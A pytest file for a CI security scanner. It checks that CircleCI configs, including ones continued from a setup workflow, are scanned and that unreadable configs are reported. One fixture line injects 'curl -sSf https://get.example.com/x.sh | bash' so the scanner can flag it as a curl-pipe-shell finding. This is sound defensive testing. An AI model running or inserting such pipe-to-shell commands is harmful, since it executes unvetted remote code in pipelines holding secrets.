"""A project is looked at with the configs that it last ran."""

from __future__ import annotations

from datetime import date
from typing import Any, Iterator

import pytest

from secguard.access import gather
from secguard.policy import Policy
from secguard.rules import ACCESS, rules
from secguard.sweep.look import Looker
from secguard.sweep.record import Record
from secguard.triage import Grounds
from tests.fakes.circleci import CircleCI
from tests.fakes.circleci_state import Project
from tests.unit.api.asking import MADE, api_for
from tests.unit.rules.access.estates import OPEN_JOB

BAD = OPEN_JOB.replace("make test", "curl -sSf https://get.example.com/x.sh | bash")
SETUP = OPEN_JOB.replace("version: 2.1", "version: 2.1\nsetup: true").replace("prod", "plan")


@pytest.fixture
def circleci() -> Iterator[CircleCI]:
    with CircleCI() as fake:
        for name in ("prod", "plan"):
            fake.org.context(name, "AWS_SECRET_ACCESS_KEY")
        yield fake
    while MADE:
        MADE.pop().close()


def looked(fake: CircleCI, **pipeline: Any) -> Record:
    project: Project = fake.org.project("app")
    project.pipeline(**pipeline)
    api = api_for(fake.api, fake.storage)
    config, access = rules("config"), rules("access", only=ACCESS)
    known = frozenset(rule.id for rule in (*config, *access))
    grounds = Grounds(Policy(), date(2026, 11, 25), known)
    organisation = gather.organisation(api, "gh/acme")
    looker = Looker(api, organisation, grounds, config, access, frozenset(), b"key")
    return looker.look("gh/acme/app")


def test_the_config_that_a_setup_workflow_made_is_checked_too(circleci: CircleCI) -> None:
    record = looked(circleci, setup=SETUP, source=BAD)
    (found,) = (one for one in record.findings if one.rule == "curl-pipe-shell")
    assert found.where.uri == "gh/acme/app/.circleci/config.yml!continued"
    assert sorted(use.context for use in record.uses) == ["plan", "prod"]
    assert not record.facts.seen


@pytest.mark.parametrize("source", ["", SETUP])
def test_a_setup_workflow_that_went_on_with_nothing_is_one_config(
    circleci: CircleCI, source: str
) -> None:
    record = looked(circleci, setup=SETUP, source=source)
    assert [use.context for use in record.uses] == ["plan"]
    assert record.problems == ()


def test_an_answer_without_a_config_is_no_empty_config(circleci: CircleCI) -> None:
    circleci.fail("rename", "/config$", names={"source": "text"})
    record = looked(circleci, source=BAD)
    assert not record.facts.seen
    assert [one.message for one in record.problems if not one.tolerated] == [
        "its config could not be read: 127.0.0.1 answers without the config"
    ]
